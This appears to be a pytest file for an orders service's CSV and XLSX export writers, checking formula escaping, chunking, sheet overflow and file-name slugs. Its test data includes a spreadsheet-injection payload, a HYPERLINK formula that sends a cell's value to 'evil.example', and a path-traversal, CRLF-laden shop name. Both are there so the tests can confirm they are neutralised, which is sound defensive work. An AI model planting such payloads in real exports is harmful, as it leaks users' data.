"""The export writers: CSV in chunks and XLSX through a file, with formulae escaped (CSV) or held as text (XLSX)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from orders.services import exports
from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, export_file_name, xlsx_file_write

HEADERS = ["order_id", "customer_id", "unit_price", "order_date", "source_line"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows():
    return [
        ("1001", HYPERLINK, Decimal("12.90"), date(2024, 1, 10), 2),
        ("1002", "==1+1", Decimal("5.00"), date(2024, 1, 11), None),
        ("1003", "a=b", Decimal("0.10"), date(2024, 1, 12), 4),
    ]


def test_csv_chunks_write_the_header_and_rows_with_formulae_escaped_never_stripped():
    text = "".join(csv_chunks(headers=HEADERS, rows=rows()))

    assert list(csv.reader(io.StringIO(text))) == [
        HEADERS,
        ["1001", "'" + HYPERLINK, "12.90", "2024-01-10", "2"],
        ["1002", "'==1+1", "5.00", "2024-01-11", ""],
        ["1003", "a=b", "0.10", "2024-01-12", "4"],
    ]


def test_csv_chunks_escape_a_header_and_leave_numbers_alone():
    text = "".join(csv_chunks(headers=["order_id", "@quantity"], rows=[("-1+2", -3), ("1004", Decimal("-2.50"))]))

    assert list(csv.reader(io.StringIO(text))) == [["order_id", "'@quantity"], ["'-1+2", "-3"], ["1004", "-2.50"]]


def test_csv_chunks_yield_a_chunk_per_few_thousand_rows_not_one_string(monkeypatch):
    monkeypatch.setattr(exports, "CSV_CHUNK_ROWS", 10)
    many = ((str(n), "c", Decimal("1.00"), date(2024, 1, 1), n) for n in range(35))

    chunks = list(csv_chunks(headers=HEADERS, rows=many))

    assert len(chunks) == 4  # 10 + 10 + 10 + the last 5 with the header in the first
    assert sum(chunk.count("\n") for chunk in chunks) == 36


def test_xlsx_file_holds_text_not_formulae_unchanged_and_money_with_cents():
    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=rows())).active

    assert [cell.value for cell in sheet[1]] == HEADERS
    customer = sheet["B2"]
    assert customer.value == HYPERLINK and customer.data_type == "s"
    assert sheet["B3"].value == "==1+1" and sheet["B3"].data_type == "s"
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert sheet["C2"].value == Decimal("12.90") or sheet["C2"].value == pytest.approx(12.9)
    assert sheet["C2"].number_format == "0.00"
    assert sheet["D2"].value.date() == date(2024, 1, 10)
    assert sheet.max_row == 4


def test_xlsx_illegal_characters_become_a_replacement_character_or_a_clear_error(settings):
    bad = [("1001", "cust\x07omer", Decimal("1.00"), date(2024, 1, 1), 1)]
    settings.IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT = True
    assert load_workbook(xlsx_file_write(headers=HEADERS, rows=bad)).active["B2"].value == "cust\ufffdomer"

    settings.IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT = False
    with pytest.raises(ValueError, match=EXPORT_FAILED_ILLEGAL_CHARACTER):
        xlsx_file_write(headers=HEADERS, rows=bad)


def test_xlsx_rows_beyond_one_sheet_continue_on_the_next_under_the_same_header(monkeypatch):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 2)
    five = [(str(n), "c", Decimal("1.00"), date(2024, 1, 1), n) for n in range(5)]

    book = load_workbook(xlsx_file_write(headers=HEADERS, rows=five))

    assert book.sheetnames == ["Orders", "Orders (2)", "Orders (3)"]
    assert [[cell.value for cell in row][0] for row in book["Orders (3)"].iter_rows()] == ["order_id", "4"]


def test_xlsx_of_no_rows_has_the_header():
    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=[])).active

    assert [cell.value for cell in sheet[1]] == HEADERS and sheet.max_row == 1


@pytest.mark.parametrize(("shop_name", "first", "last", "extension", "expected"), [
    (None, date(2024, 1, 1), date(2024, 3, 31), "csv", "orders_2024-01-01_2024-03-31.csv"),
    ("", date(2024, 1, 1), date(2024, 3, 31), "xlsx", "orders_2024-01-01_2024-03-31.xlsx"),
    ("Corner Shop", date(2024, 1, 1), date(2024, 1, 1), "csv", "corner-shop_2024-01-01_2024-01-01.csv"),
    ("Café Ünïque & Co", date(2024, 1, 1), date(2024, 3, 31), "csv", "cafe-unique-co_2024-01-01_2024-03-31.csv"),
    # Nothing of the name survives (no Latin letter or digit, or a path): the default, never an odd name.
    ("東京 ストア", None, None, "csv", "orders.csv"),
    ('../"evil";\r\n', date(2024, 1, 1), None, "csv", "evil_2024-01-01.csv"),
])
def test_export_file_name_is_the_shops_slug_and_the_range(shop_name, first, last, extension, expected):
    assert export_file_name(shop_name=shop_name, first=first, last=last, extension=extension) == expected
